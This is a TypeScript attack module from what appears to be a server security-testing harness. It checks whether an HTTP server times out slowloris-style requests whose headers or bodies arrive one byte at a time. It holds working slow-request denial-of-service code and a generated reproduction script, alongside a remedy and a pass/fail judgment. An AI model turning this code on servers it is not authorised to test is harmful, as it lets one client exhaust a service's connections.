import { setTimeout as sleep } from 'node:timers/promises'
import { defineAttack } from '../../attack.ts'
import { resisted, vulnerable } from '../../judge.ts'
import { control, openWitness } from '../../kit/attempt.ts'
import { dialTarget } from '../../kit/dial-target.ts'
import { messages } from '../../sends.ts'

const each = 4
/** Node looks for those that are too late every so often; a server of ours every second. */
const slackMs = 2_500
const lateMs = 6_000

export default defineAttack({
  id: 'dos/http-slow-headers',
  rows: ['dos.http.slow-headers', 'dos.http.slow-body'],
  title: 'Requests whose headers, and whose bodies, come a byte at a time and never end: how long are they waited for?',
  requirement: 'CWE-400: a request has a time in which it has to be there',
  impact: 'With next to no traffic one client holds all connections that the server can have.',
  remedy: 'Set headersTimeout, requestTimeout and connectionsCheckingInterval of the HTTP server to a few seconds.',
  severity: 'medium',
  cwe: ['CWE-400', 'CWE-770'],
  references: [],
  provenBy: 'timeouts-off',
  sends: messages(400),
  needs: ['requestTimeout'],
  effect: 'disrupt',
  holds: 'nothing',
  waitsMs: ({ requestTimeoutMs = 0 }) => requestTimeoutMs + slackMs,
  async run(context) {
    const { url, profile } = context.target
    const { host } = new URL(url)
    const path = `${profile.path.replace(/\/?$/, '/')}?EIO=${profile.protocol.eio}&transport=polling`
    const kinds = {
      headers: `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nX-A: `,
      body: `POST ${profile.login?.url ?? path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 900\r\n\r\n{`,
    }
    const opened = await Promise.all(
      Object.entries(kinds).flatMap(([kind, head]) =>
        Array.from({ length: each }, async () => {
          const socket = await dialTarget(context)
          let open = true
          socket
            .resume()
            .once('end', () => (open = false))
            .once('close', () => (open = false))
          socket.write(head)
          return { kind, socket, isOpen: () => open }
        }),
      ),
    )
    const isHeld = (kind: string) => opened.filter((one) => one.kind === kind && one.isOpen()).length
    const isOver = () => Object.keys(kinds).every((kind) => isHeld(kind) < each)
    const endMs = performance.now() + context.requestTimeout + slackMs
    const nowMs = () => performance.now()
    // A busy machine closes late: one that holds all of a kind is given some seconds more.
    while (nowMs() < endMs ? opened.some(({ isOpen }) => isOpen()) : nowMs() < endMs + lateMs && !isOver()) {
      for (const { socket, isOpen } of opened) if (isOpen()) socket.write('a')
      await sleep(500, undefined, { signal: context.signal })
    }
    const held = Object.keys(kinds).map(isHeld)
    for (const { socket } of opened) socket.destroy()
    const longest = context.requestTimeout + slackMs + lateMs
    const kind = Object.values(kinds).find((_, i) => held[i] === each)
    if (kind !== undefined) context.recording.written(({ value }) => script(value(kind), longest))
    context.note(
      'measured',
      `after ${Math.round(nowMs() - endMs + context.requestTimeout + slackMs)} ms, of ${each} with slow headers and ${each} with slow bodies are held: ${held.join(' and ')}`,
    )
    const { observation } = await control(context, 'an honest client', await openWitness(context))
    return held.includes(each) ? vulnerable(context.evidence) : resisted(observation, context.evidence)
  },
})

/** A server that waits no longer hangs up, with or without an answer. */
function script(head: string, longestMs: number): string {
  return `let open = ${each}
const sockets = await Promise.all(Array.from({ length: ${each} }, () => dial()))
for (const socket of sockets) {
  socket.resume().once('end', () => socket.destroy()).once('close', () => open--)
  socket.write(${head})
}
for (const end = Date.now() + ${longestMs}; open > 0 && Date.now() < end; await sleep(500))
  for (const socket of sockets) if (!socket.destroyed) socket.write('a')
expect(open === ${each}, 'the server waits no longer for the rest of a request')`
}
